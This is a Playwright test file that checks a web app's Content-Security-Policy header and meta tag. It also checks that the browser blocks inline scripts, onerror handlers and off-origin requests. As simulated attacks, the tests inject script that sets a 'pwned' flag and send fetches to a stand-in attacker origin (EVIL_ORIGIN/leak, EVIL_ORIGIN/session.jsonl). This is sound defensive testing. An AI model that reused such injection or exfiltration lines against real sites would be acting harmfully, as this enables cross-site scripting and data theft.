/**
 * Issue 6: the built app carries a Content-Security-Policy (response header from `vite preview`
 * and a <meta> tag in index.html) that forbids inline script and every network origin but its
 * own, and the browser enforces it. `?url=` is same-origin only under `connect-src 'self'`.
 */
import { expect, test } from '@playwright/test';
import { EVIL_ORIGIN, PWNED_FLAG } from '../src/fuzz/hostile';
import { status } from './helpers';
import { openApp, watch } from './hostile-helpers';

function directives(policy: string | null | undefined): Map<string, string[]> {
  const m = new Map<string, string[]>();
  for (const part of (policy ?? '').split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) m.set(name.toLowerCase(), values);
  }
  return m;
}

const REQUIRED: Record<string, string[]> = {
  'default-src': ["'self'"],
  'script-src': ["'self'", "'wasm-unsafe-eval'"],
  'worker-src': ["'self'", 'blob:'],
  'connect-src': ["'self'"],
  'img-src': ["'self'", 'blob:', 'data:'],
  'style-src': ["'self'", "'unsafe-inline'"],
  'object-src': ["'none'"],
  'base-uri': ["'none'"],
  'form-action': ["'none'"],
};

test('the page is served with the CSP header and carries the CSP meta tag', async ({ page }) => {
  const res = await page.goto('/');
  const header = directives(res!.headers()['content-security-policy']);
  const meta = directives(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'));
  for (const [name, values] of Object.entries(REQUIRED)) {
    expect(header.get(name), `header ${name}`).toEqual(values);
    expect(meta.get(name), `meta ${name}`).toEqual(values);
  }
  // frame-ancestors only works as a header (browsers ignore it in <meta>)
  expect(header.get('frame-ancestors')).toEqual(["'none'"]);
  for (const d of [header, meta]) {
    expect(d.get('script-src')).not.toContain("'unsafe-inline'");
    expect(d.get('script-src')).not.toContain("'unsafe-eval'");
  }
  // the meta tag comes before any script, so it covers the app's own bundle too
  const order = await page.evaluate(() => Array.from(document.head.children).map((e) => e.tagName.toLowerCase() + (e.getAttribute('http-equiv') ? ':csp' : '')));
  expect(order.indexOf('meta:csp')).toBeLessThan(order.indexOf('script'));
});

test('the browser enforces it: inline script and off-origin requests are blocked', async ({ page }, testInfo) => {
  const w = await watch(page, new URL(testInfo.project.use.baseURL!).origin);
  await openApp(page);
  const fetched = await page.evaluate(async ({ flag, evil }) => {
    const s = document.createElement('script');
    s.textContent = `window.${flag} = 1`;
    document.body.append(s);
    const img = document.createElement('img');
    img.setAttribute('onerror', `window.${flag} = 2`);
    img.src = 'x';
    document.body.append(img);
    try { await fetch(`${evil}/leak`); return 'fetched'; } catch { return 'blocked'; }
  }, { flag: PWNED_FLAG, evil: EVIL_ORIGIN });
  expect(fetched).toBe('blocked');
  await expect.poll(() => w.violations()).toEqual(expect.arrayContaining([
    expect.stringMatching(/^script-src-elem inline/), expect.stringMatching(/^script-src-attr inline/), expect.stringMatching(new RegExp(`^connect-src ${EVIL_ORIGIN}`)),
  ]));
  expect(await w.pwned()).toBeUndefined();
  expect(w.offOrigin()).toEqual([]);
});

test('?url= on another origin is refused before any request, and connect-src blocks one all the same', async ({ page }, testInfo) => {
  const w = await watch(page, new URL(testInfo.project.use.baseURL!).origin);
  await page.goto(`/?url=${encodeURIComponent(`${EVIL_ORIGIN}/session.jsonl`)}`);
  await expect(status(page).getByRole('alert')).toContainText(`Could not open ${EVIL_ORIGIN}/session.jsonl: only same-origin addresses are allowed`);
  expect(w.offOrigin()).toEqual([]);
  // the policy itself: a fetch to another origin from the page is blocked by connect-src
  const outcome = await page.evaluate((url) => fetch(url).then(() => 'fetched', () => 'blocked'), `${EVIL_ORIGIN}/session.jsonl`);
  expect(outcome).toBe('blocked');
  const v = await w.violations();
  expect(v.length).toBeGreaterThan(0);
  for (const x of v) expect(x).toMatch(new RegExp(`^connect-src ${EVIL_ORIGIN}/session.jsonl`));
  expect(w.offOrigin()).toEqual([]);
});

test('the zstd demo (WebAssembly checksum) loads under the CSP without a violation', async ({ page }, testInfo) => {
  const w = await watch(page, new URL(testInfo.project.use.baseURL!).origin);
  await page.goto('/?url=demo/demo.jsonl.zstd');
  await expect(page.getByLabel('Verdict')).toHaveAttribute('data-verdict', 'ok');
  await expect(status(page)).toHaveAttribute('data-cursor', /\d+/);
  expect(await w.violations()).toEqual([]);
  expect(w.offOrigin()).toEqual([]);
});
